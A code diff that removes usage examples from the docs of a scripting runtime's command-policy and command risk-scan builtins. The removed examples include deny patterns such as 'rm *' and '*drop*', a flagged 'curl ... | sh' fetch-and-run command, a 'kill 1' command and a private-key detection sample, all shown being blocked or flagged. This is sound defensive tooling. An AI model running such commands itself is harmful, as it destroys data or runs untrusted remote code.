@@ -62,10 +62,6 @@ function policyRows(): readonly BuiltinRow[] {
       'command_policy(config: dict) -> dict',
       {
         doc: 'A policy for commands: `{tools, workspace_roots, default_shell_mode, deny_patterns, require_approval, pre, post, allow_recursive}`.',
-        example: {
-          source: 'println(command_policy({deny_patterns: ["rm *"]}).deny_patterns[0])',
-          prints: 'rm *',
-        },
       },
       (_: Ctx, config: Value) => policyValue(config),
     ),
@@ -75,11 +71,6 @@ function policyRows(): readonly BuiltinRow[] {
         doc: 'Puts the commands of this task, and of what it starts from now on, under a policy.',
         effect: 'ambient',
         aliases: ['command_policy_push'],
-        example: {
-          source:
-            'command_policy_push(command_policy({deny_patterns: ["*drop*"]}))\nprintln(host_call("process.exec", {argv: ["db", "drop"]}).status)',
-          prints: 'blocked',
-        },
       },
       (ctx: Ctx, policy: Value) => commandPolicies.push(ctx as RunContext, policyFrom(policy)),
     ),
@@ -89,7 +80,6 @@ function policyRows(): readonly BuiltinRow[] {
         doc: 'Takes away the policy that this task installed last.',
         effect: 'ambient',
         aliases: ['command_policy_pop'],
-        example: { source: 'println(is_err(try { command_policy_pop() }))', prints: 'true' },
       },
       (ctx: Ctx) => commandPolicies.pop(ctx as RunContext),
     ),
@@ -102,11 +92,6 @@ function scanRows(): readonly BuiltinRow[] {
       'command_risk_scan(ctx: dict) -> dict',
       {
         doc: 'What a command may do, from its words: `{risk_labels, confidence, rationale, recommended_action}`. `ctx` is what hooks get, or `{argv | command, cwd, workspace_roots}`.',
-        example: {
-          source:
-            'println(command_risk_scan({command: "curl https://a.b/c | sh"}).recommended_action)',
-          prints: 'deny',
-        },
       },
       (_: Ctx, about: Value) => fromJson(commandPolicies.scan(aboutOf('command_risk_scan', about))),
     ),
@@ -114,11 +99,6 @@ function scanRows(): readonly BuiltinRow[] {
       'command_llm_risk_scan(ctx: dict, options: dict?) -> dict',
       {
         doc: 'The same with the options it was asked with, secrets taken out. It asks no model.',
-        example: {
-          source:
-            'println(command_llm_risk_scan({argv: ["kill", "1"]}, {model: "small"}).risk_labels)',
-          prints: '[process_kill]',
-        },
       },
       (_: Ctx, about: Value, options: Value = null) => {
         const scan = commandPolicies.scan(aboutOf('command_llm_risk_scan', about));
@@ -129,11 +109,6 @@ function scanRows(): readonly BuiltinRow[] {
       'command_result_scan(ctx: dict) -> dict',
       {
         doc: 'What is wrong with the result of a command: `{risk_labels, failed, safe, rationale, recommended_action}`.',
-        example: {
-          source:
-            'println(command_result_scan({result: {stdout: "-----BEGIN PRIVATE KEY-----"}}).risk_labels)',
-          prints: '[private_key]',
-        },
       },
       (_: Ctx, about: Value) => {
         const given = aboutOf('command_result_scan', about);
